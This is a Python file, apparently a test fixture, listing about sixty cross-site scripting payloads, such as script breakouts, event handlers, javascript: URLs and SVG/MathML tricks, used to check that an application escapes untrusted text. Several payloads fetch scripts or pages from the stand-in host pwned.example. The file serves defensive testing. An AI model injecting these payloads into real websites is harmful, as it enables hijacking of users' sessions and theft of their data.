"""Sixty texts that want to become markup or code.

One that gets through leaves an element with the id "pwned", calls `pwned()`, or asks the host
pwned.example for something.
"""

PAYLOADS = (
    # Scripts, plain and breaking out of where a text stands.
    "<script>pwned()</script>",
    "</title><script>pwned()</script>",
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "--><script>pwned()</script>",
    "<!--<script>pwned()//",
    "]]><script>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>",
    "<script/id=pwned>pwned()</script\n>",
    # Elements that act by themselves.
    "<img src=x onerror=pwned()>",
    '"><img src=x id=pwned onerror=pwned()>',
    "<img src=//pwned.example/p.png id=pwned>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()></select>",
    "<p id=pwned onpointerover=pwned()>x</p>",
    '<iframe srcdoc="<script>parent.pwned()</script>">',
    "<iframe src=javascript:parent.pwned()></iframe>",
    "<object data=javascript:pwned() id=pwned></object>",
    "<embed src=//pwned.example id=pwned>",
    "<form action=javascript:pwned() id=pwned><button>x",
    "<button formaction=javascript:pwned() id=pwned>x",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//pwned.example>",
    "<base href=//pwned.example/ id=pwned>",
    # Other languages inside HTML, and what parsers turn them into.
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg id=pwned><animate onbegin=pwned() attributeName=x>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a>",
    "<math><a href=javascript:pwned() id=pwned>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<style id=pwned>*{background:url(//pwned.example/x)}</style>",
    "<x id=pwned style=animation-name:x onanimationend=pwned()>",
    # Out of an attribute.
    '" onmouseover="pwned()" id="pwned',
    "' onfocus='pwned()' autofocus id='pwned",
    'x" style="background:url(//pwned.example/x)" id="pwned',
    # Addresses that are code.
    "javascript:pwned()",
    "JaVaScRiPt://%0apwned()",
    "java\tscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    'https://pwned.example/"onmouseover="pwned()',
    # Templates, here and in the browser.
    "{{constructor.constructor('pwned()')()}}${pwned()}",
    "{% now 'Y' %}{{ request.user.password }}<%=pwned()%>",
    "%{hovertext}<extra>pwned</extra>",
    # Written in another way.
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "\u202e<script>pwned()</script>\u202c\u2066",
    "＜script＞pwned()＜/script＞",
    "<scr\x00ipt>pwned()</script>",
    # The little HTML that Plotly reads, and the attributes that htmx reads.
    '<a href="javascript:pwned()" id=pwned>x</a>',
    "<b onclick=pwned()>x</b><i style=color:red id=pwned>y</i>",
    "<div hx-get=//pwned.example hx-trigger=load hx-on:click=pwned()>",
    # Very long.
    "<b id=pwned onclick=pwned()>" * 20,
)
